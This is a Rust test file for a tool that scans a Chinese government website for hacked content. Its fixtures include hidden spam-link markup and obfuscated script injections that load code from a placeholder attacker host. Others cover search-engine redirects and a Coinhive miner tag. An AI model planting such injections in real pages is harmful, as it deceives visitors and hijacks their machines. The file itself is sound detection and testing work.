//! Planted ways as data, and pages that look alike and are sound.

use super::*;
use crate::facts::model::PageFacts;
use crate::facts::test_page;

const URL: &str = "https://www.qingshi.gov.cn/xw/1.html";

fn page(url: &str, inner: &str) -> PageFacts {
    let html = match inner.contains("<body") || inner.contains("<head") {
        true => inner.to_owned(),
        false => format!(
            "<html><head><title>青石市人民政府</title></head><body><p>今天召开会议。</p>{inner}</body></html>"
        ),
    };
    test_page(url, &html)
}

/// Signs of a page as `case way`, without those that every page of this shape has.
fn signs(url: &str, inner: &str) -> Vec<String> {
    let name = |case: &SignCase| {
        serde_json::to_value(case)
            .unwrap()
            .as_str()
            .unwrap()
            .to_owned()
    };
    page(url, inner)
        .signs
        .iter()
        .filter(|sign| !sign.case.is_outline())
        .map(|sign| format!("{} {}", name(&sign.case), sign.way))
        .collect()
}

/// (what has to be said, the page)
const PLANTED: &[(&str, &str)] = &[
    (
        "hidden_link display_none",
        "<div style='display:none'><a href='http://www.evil.cc/'>友情链接</a></div>",
    ),
    (
        "hidden_link display_none",
        "<div style='display:none' id='x'><a href='http://www.evil.cc/'>澳门新葡京</a></div>",
    ),
    (
        "hidden_link display_none",
        "<p hidden><a href='http://www.evil.cc/'>链接</a></p>",
    ),
    (
        "hidden_link visibility_hidden",
        "<div style='visibility: hidden'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link opacity",
        "<div style='opacity:0'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link opacity",
        "<div style='filter: alpha(opacity=0)'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link text_indent",
        "<div style='text-indent:-9999px'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link text_indent",
        "<div style='text-indent:-999em'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link font_size",
        "<a href='http://www.evil.cc/' style='font-size:0px'>链接</a>",
    ),
    (
        "hidden_link font_size",
        "<span style='font-size:1px'><a href='http://www.evil.cc/'>链接</a></span>",
    ),
    (
        "hidden_link clip",
        "<div style='position:absolute;clip:rect(0,0,0,0)'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link clip",
        "<div style='clip-path: inset(50%)'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link off_screen",
        "<div style='position:absolute;left:-5000px'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link off_screen",
        "<div style='position:fixed; top:-999px'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link margin",
        "<div style='margin-left:-8888px'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link margin",
        "<div style='margin:-2000px 0 0 0'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link no_height",
        "<div style='height:0;overflow:hidden'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link no_height",
        "<div style='max-height:1px;overflow:hidden'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link no_width",
        "<div style='width:1px;overflow:hidden'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link transform",
        "<div style='transform:scale(0)'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link transform",
        "<div style='transform:translate(-9999px, 0)'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link z_index",
        "<div style='position:absolute;z-index:-10'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link transparent",
        "<a style='color:transparent' href='http://www.evil.cc/'>链接</a>",
    ),
    (
        "hidden_link transparent",
        "<a style='color:rgba(0,0,0,0)' href='http://www.evil.cc/'>链接</a>",
    ),
    (
        "hidden_link same_colour",
        "<div style='background:#fff'><a style='color:#FFFFFF' href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link same_colour",
        "<table><tr><td bgcolor='white'><a href='http://www.evil.cc/'><font color='#fff'>链接</font></a></td></tr></table>",
    ),
    (
        "hidden_link marquee",
        "<marquee height='1' width='5' scrollamount='3000'><a href='http://www.evil.cc/'>链接</a></marquee>",
    ),
    (
        "hidden_link letter_spacing",
        "<div style='letter-spacing:-50px'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link content_visibility",
        "<div style='content-visibility:hidden'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link text_indent",
        "<style>.k9{text-indent:-9000px}</style><div class='k9'><a href='http://www.evil.cc/'>博彩平台</a></div>",
    ),
    (
        "hidden_link font_size",
        "<style>a{color:red} .s1 { font-size: 0 } </style><div class='s1 t'><a href='http://www.evil.cc/'>链接</a></div>",
    ),
    (
        "hidden_link text_indent",
        "<style>.k9{text-indent:-9000px}</style><div class='k9'><a href='http://www.evil.cc/'>推荐阅读</a></div>",
    ),
    (
        "hidden_link display_none",
        "<div id='k8'><a href='http://www.evil.cc/'>北京赛车pk10</a></div><script>document.write('<style>#k8{display:none}</style>');</script>",
    ),
    (
        "hidden_link tiny_text",
        "<a href='http://www.evil.cc/'>.</a>",
    ),
    (
        "hidden_link tiny_picture",
        "<a href='http://www.evil.cc/'><img src='/a.gif' width='1' height='1'></a>",
    ),
    (
        "hidden_link display_none",
        "<a href='http://www.evil.cc/'><span style='display:none'>真人百家乐</span></a>",
    ),
    (
        "hidden_link frame",
        "<iframe src='http://www.evil.cc/' width='0' height='0'></iframe>",
    ),
    (
        "hidden_link frame",
        "<iframe src='//www.evil.cc/x' style='display:none'></iframe>",
    ),
    (
        "scripted_link hiding_script",
        "<script>document.write(\"<div style='display:none'><a href='http://www.evil.cc/'>链接</a></div>\");</script>",
    ),
    (
        "scripted_link hiding_script",
        "<script>document.write('<marquee height=1 width=1><a href=http://www.evil.cc/>x</a></marquee>')</script>",
    ),
    (
        "scripted_link veiled_script",
        "<script>document.write(unescape('%3Cscript%20src%3D%22http%3A%2F%2Fwww.evil.cc%2Fa.js%22%3E%3C%2Fscript%3E'))</script>",
    ),
    (
        "scripted_link veiled_script",
        "<script>document.write('\\x3c\\x73\\x63\\x72\\x69\\x70\\x74 src=http://www.evil.cc/a.js\\x3e')</script>",
    ),
    (
        "scripted_link veiled_script",
        "<script>eval(String.fromCharCode(100,111,99,117,109,101,110,116,46,119,114,105,116,101,40,39,60,97,32,104,114,101,102,61,104,116,116,112,58,47,47,101,118,105,108,46,99,99,47,62,39,41))</script>",
    ),
    (
        "scripted_link veiled_script",
        "<script>document.write(atob('PHNjcmlwdCBzcmM9Imh0dHA6Ly93d3cuZXZpbC5jYy9hLmpzIj48L3NjcmlwdD4='))</script>",
    ),
    (
        "scripted_link veiled_script",
        "<script>eval(function(p,a,c,k,e,d){return p}('0.1(\"<2 3=4://5.6/7>\")',8,8,'document|write|iframe|src|http|evil|cc|x'.split('|'),0,{}))</script>",
    ),
    (
        "search_redirect search_redirect",
        "<script>var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0){location.href='http://www.evil.cc/';}</script>",
    ),
    (
        "search_redirect search_redirect",
        "<script>if(/baiduspider/i.test(navigator.userAgent)){document.write('<a href=\"http://www.evil.cc/\">x</a>');}else{window.location='http://www.evil.cc/2'}</script>",
    ),
    (
        "miner script",
        "<script src='https://coinhive.com/lib/coinhive.min.js'></script>",
    ),
    (
        "miner script",
        "<script>var miner=new CoinHive.Anonymous('k');miner.start();var a='coinhive.com'</script>",
    ),
    (
        "gambling link",
        "<a href='http://www.evil.cc/'>澳门新葡京官网</a>",
    ),
    (
        "gambling link",
        "<a href='http://www.bet365-cn.com/'>合作伙伴</a>",
    ),
    (
        "pornography link",
        "<a href='http://www.evil.cc/'>成人视频在线观看</a>",
    ),
    (
        "file_share link",
        "<a href='https://pan.baidu.com/s/1abc'>附件下载</a>",
    ),
    (
        "strange_script script",
        "<script src='http://js.evil.cc/t.js'></script>",
    ),
    (
        "strange_frame frame",
        "<iframe src='http://www.evil.cc/' width='300' height='200'></iframe>",
    ),
    (
        "tampered_title title",
        "<head><title>澳门新葡京_真人百家乐_时时彩平台</title></head><body><p>文</p></body>",
    ),
    (
        "tampered_title keywords",
        "<head><title>青石市人民政府</title><meta name='keywords' content='北京赛车pk10,皇冠体育'></head><body><p>文</p></body>",
    ),
    (
        "tampered_title description",
        "<head><title>青石市人民政府</title><meta name='description' content='网上博彩,注册送彩金'></head><body><p>文</p></body>",
    ),
    (
        "tampered_title foreign",
        "<head><title>スーパーコピーブランド時計の専門店</title></head><body><p>文</p></body>",
    ),
    (
        "tampered_text gambling",
        "<p>真人百家乐，时时彩平台，老虎机游戏平台，注册送彩金。</p>",
    ),
    (
        "tampered_text gambling",
        "<p>真人百家乐，时时彩平台，注册送彩金。</p><h5>相关新闻</h5><ul><li><a href='/1.html'>耕地保护情况通报</a></li></ul>",
    ),
    (
        "other_host SiteDomain",
        "<head><title>青石市人民政府</title><meta name='SiteDomain' content='www.evil.cc'></head><body><p>文</p></body>",
    ),
    (
        "other_host SiteDomain",
        "<head><title>青石市人民政府</title><meta name='SiteDomain' content='www.qingshi.gov.cn;www.qs-info.com'></head><body><p>文</p></body>",
    ),
    ("leaked_file backup", "<a href='/wwwroot.zip'>下载</a>"),
    ("leaked_file backup", "<a href='/data/qs_2026.sql'>数据</a>"),
    (
        "leaked_file repository",
        "<a href='/.git/config'>config</a>",
    ),
    ("leaked_file server_info", "<a href='/phpinfo.php'>info</a>"),
    (
        "listed_folder index of /",
        "<head><title>Index of /upload</title></head><body><a href='../'>Parent Directory</a></body>",
    ),
    (
        "advertising script",
        "<script src='https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js'></script>",
    ),
    ("severe_wording T-02", "<p>台湾总统发表讲话</p>"),
    (
        "severe_wording T-01",
        "<p>会上谈到中华民国外交部的情况。</p>",
    ),
    ("severe_wording S-01", "<p>中华人民共各国</p>"),
];

/// Pages of which nothing may be said.
const SOUND: &[&str] = &[
    // Menus, tabs, sliders.
    "<ul class='menu'><li>友情链接<div class='sub' style='display:none'><a href='http://www.hotel.com/'>青石宾馆</a></div></li></ul>",
    "<div id='tab2' style='display:none'><a href='http://www.hotel.com/'>青石宾馆</a></div>",
    "<div class='slide' style='position:absolute;left:-1000px'><a href='http://www.hotel.com/'><img src='/a.jpg' alt='宾馆'></a></div>",
    "<style>.sub{display:none}.menu:hover .sub{display:block}</style><div class='sub'><a href='http://www.hotel.com/'>青石宾馆</a></div>",
    "<div style='display:none'><a href='https://www.gov.cn/'>中国政府网</a><a href='/a.html'>本站</a></div>",
    "<style>.hd{text-indent:-9999px}</style><h1 class='hd'><a href='http://www.hotel.com/'>青石宾馆</a></h1>",
    "<a class='logo' style='text-indent:-9999px' href='http://www.hotel.com/'>青石宾馆</a>",
    "<div style='height:0;overflow:hidden'><a href='https://www.people.com.cn/'>人民网</a></div>",
    "<a href='http://www.hotel.com/' style='color:#fff'>青石宾馆</a>",
    "<div style='background:#c00'><a href='http://www.hotel.com/' style='color:#fff'>青石宾馆</a></div>",
    "<div style='flex:1;width:0;overflow:hidden'><a href='http://www.hotel.com/'>青石宾馆</a></div>",
    "<table><tr><td style='max-width:0;overflow:hidden;text-overflow:ellipsis'><a href='http://www.hotel.com/'>青石宾馆</a></td></tr></table>",
    "<div style='width:1px;min-width:100%;overflow:hidden'><a href='http://www.hotel.com/'>青石宾馆</a></div>",
    "<div style='height:0;padding-bottom:56%;overflow:hidden'><a href='http://www.hotel.com/'>青石宾馆</a></div>",
    "<style>.drawer{width:0;overflow:hidden}</style><div class='drawer'><a href='http://www.hotel.com/'>青石宾馆</a></div>",
    "<div style='overflow:hidden;height:30px'><a href='http://www.hotel.com/'>青石宾馆</a></div>",
    "<marquee height='30' scrollamount='3'><a href='http://www.hotel.com/'>青石宾馆</a></marquee>",
    "<iframe src='https://www.googletagmanager.com/ns.html?id=1' height='0' width='0' style='display:none'></iframe>",
    "<iframe src='/weather.html' width='0' height='0'></iframe>",
    // Scripts that everybody has.
    "<script>var _bdhmProtocol='https://';document.write(unescape('%3Cscript src=\\'https://hm.baidu.com/h.js?1\\' type=\\'text/javascript\\'%3E%3C/script%3E'));</script>",
    "<script>document.write('<script src=\"http://s19.cnzz.com/z_stat.php?id=1\"></script>');</script>",
    "<script>document.write(unescape(\"%3Cspan id='_ideConac'%3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/1.js'%3E%3C/script%3E\"));</script>",
    "<script>if(/mobile/i.test(navigator.userAgent)){location.href='/m/';}</script>",
    "<script>if(document.referrer.indexOf('baidu')>0){var k='x';}</script>",
    "<script>(function(){var s=document.createElement('script');s.src='https://hm.baidu.com/hm.js?1';document.body.appendChild(s);})();</script>",
    "<script>var win=navigator.userAgent;document.write('<a href=\"/jd/\">解读</a>');</script>",
    // Reports and warnings.
    "<p>公安机关打击网上赌场、线上赌场、博彩平台、真人百家乐，抓获犯罪嫌疑人。</p>",
    "<p>网站里有网上赌场、博彩平台、真人百家乐。公安机关已立案。</p>",
    "<a href='http://www.paper.com/1.html'>警方破获“真人百家乐”网络赌博案</a>",
    "<head><title>警惕“注册送彩金”骗局</title></head><body><p>文</p></body>",
    "<p>体彩中心公布开奖结果，老虎机一词见于法规。</p>",
    // Words that are right where they stand.
    "<p>不得称“台湾总统”。</p>",
    "<p>所谓“台湾总统”发表讲话</p>",
    "<p>1936年，中华民国政府公布……</p>",
    "<p>《中华民国政府公报》目录</p>",
    "<p>促进中国和台湾地区的交流</p>",
    "<p>亚太经济合作组织成员有日本、中国香港、中国台北等国家和地区</p>",
    // Addresses.
    "<head><title>青石市</title><meta name='SiteDomain' content='qingshi.gov.cn'></head><body><p>文</p></body>",
    "<head><title>青石市</title><meta name='SiteDomain' content='www.qingshi.gov.cn,www.qs.gov.cn'></head><body><p>文</p></body>",
    "<head><title>青石市</title><meta name='SiteDomain' content='www.qingshi.gov.cn/'></head><body><p>文</p></body>",
    "<a href='/files/zip.html'>打包</a><a href='/files/biao.zip'>附件</a><a href='/old.html'>旧闻</a>",
    "<a href='http://other.cc/wwwroot.zip'>别处</a>",
    "<a href='http://www.hotel.com/'>青石宾馆</a>",
    "<script src='https://code.jquery.com/jquery.js'></script>",
];

#[test]
fn planted_ways_are_found() {
    let missed: Vec<String> = PLANTED
        .iter()
        .filter(|(expected, inner)| !signs(URL, inner).iter().any(|sign| sign == expected))
        .map(|(expected, inner)| format!("{expected}: {inner}\n  {:?}", signs(URL, inner)))
        .collect();
    assert!(missed.is_empty(), "{}", missed.join("\n"));
    let ways: std::collections::BTreeSet<&str> = PLANTED.iter().map(|(way, _)| *way).collect();
    assert!(ways.len() >= 30, "{} ways", ways.len());
}

#[test]
fn sound_pages_are_left_alone() {
    let accused: Vec<String> = SOUND
        .iter()
        .filter(|inner| !signs(URL, inner).is_empty())
        .map(|inner| format!("{inner}\n  {:?}", signs(URL, inner)))
        .collect();
    assert!(accused.is_empty(), "{}", accused.join("\n"));
}

#[test]
fn facts_of_a_page_hold_no_number_as_it_was() {
    let number = "11010519491231002X";
    let html = format!(
        "<html><head><title>{number}公示</title><meta name='keywords' content='{number}'></head><body>\
         <h1>低保名单{number}</h1><p>发布时间：2026-03-01</p><div id='zoom'><p>张三，{number}，享受低保，家庭情况已经核实，现予以公示，接受监督。</p>\
         <a href='/a.html'>查看{number}</a></div></body></html>"
    );
    let facts = test_page(URL, &html);
    assert!(
        facts
            .signs
            .iter()
            .any(|sign| sign.case == SignCase::IdentityCard)
    );
    let said = serde_json::to_string(&facts).unwrap();
    assert!(!said.contains(number), "{said}");
    assert!(said.contains("110***********002X"));
}

#[test]
fn pages_without_prompt_say_so_on_the_home_page_only() {
    let away = "<a href='http://www.hotel.com/'>青石宾馆</a>";
    let home = "https://www.qingshi.gov.cn/";
    assert_eq!(signs(home, away), ["no_exit_prompt 1"]);
    let told = format!("{away}<script>function go(){{confirm('您即将离开本网站')}}</script>");
    assert_eq!(signs(home, &told), Vec::<String>::new());
    assert_eq!(signs(URL, away), Vec::<String>::new());
    assert_ne!(page(home, away).skeleton, 0);
    assert_eq!(page(URL, away).skeleton, 0);
}

#[test]
fn a_skeleton_stays_while_texts_change() {
    let home = "https://www.qingshi.gov.cn/";
    let list = |word: &str| {
        format!(
            "<div class='a1'><ul class='list'>{}</ul></div>",
            format!("<li><a href='/{word}.html'>{word}</a></li>").repeat(20)
        )
    };
    let (one, other) = (
        page(home, &list("新闻")).skeleton,
        page(home, &list("公告")).skeleton,
    );
    assert_eq!(one, other);
    let built_anew = page(
        home,
        &"<table><tr><td><b>广告</b></td></tr></table><marquee>x</marquee>".repeat(20),
    )
    .skeleton;
    assert!((one ^ built_anew).count_ones() > 12);
}

#[test]
fn documents_are_read_for_numbers_and_wording() {
    let lists = crate::facts::Lexicons::builtin().safety;
    let today = jiff::civil::date(2026, 3, 20);
    let signs = read_document(
        "姓名 身份证号\n张三 11010519491231002X\n台湾总统",
        today,
        &lists,
    );
    let cases: Vec<SignCase> = signs.iter().map(|sign| sign.case).collect();
    assert_eq!(cases, [SignCase::IdentityCard, SignCase::SevereWording]);
}

#[test]
fn a_wording_within_a_longer_one_is_told_once() {
    let page = page(URL, "<p>中国共产觉领导</p>");
    let said: Vec<&str> = page.signs.iter().map(|sign| sign.what.as_str()).collect();
    assert_eq!(said, ["中国共产觉"]);
}

#[test]
fn outside_pages_are_told_by_what_they_advertise() {
    let lists = crate::facts::Lexicons::builtin().safety;
    let told = |url: &str, title: &str| {
        let html = format!(
            "<html><head><meta charset='utf-8'><title>{title}</title></head><body><p>欢迎</p></body></html>"
        );
        outside_page(url, "text/html", html.as_bytes(), &lists).map(|sign| sign.case)
    };
    let old = "http://www.old-travel.com/";
    assert_eq!(told(old, "真人百家乐_注册送彩金"), Some(SignCase::Gambling));
    assert_eq!(told(old, "成人视频在线观看"), Some(SignCase::Pornography));
    assert_eq!(told(old, "青石旅游网"), None);
    assert_eq!(told(old, "警方打击“真人百家乐”网络赌博"), None);
    assert_eq!(told("https://news.people.com.cn/1", "真人百家乐"), None);
}

#[test]
fn codes_and_addresses_of_strangers() {
    let lists = crate::facts::Lexicons::builtin().safety;
    let own = "https://www.qingshi.gov.cn/";
    for (address, expected) in [
        ("HTTP://www.Evil.cc/x", Some("www.evil.cc")),
        ("https://m.qingshi.gov.cn/", None),
        (
            "https://u.wechat.com.evil.cc/",
            Some("u.wechat.com.evil.cc"),
        ),
        ("tel:110", None),
        ("青石", None),
    ] {
        assert_eq!(
            stranger(address, own, &lists).as_deref(),
            expected,
            "{address}"
        );
    }
}
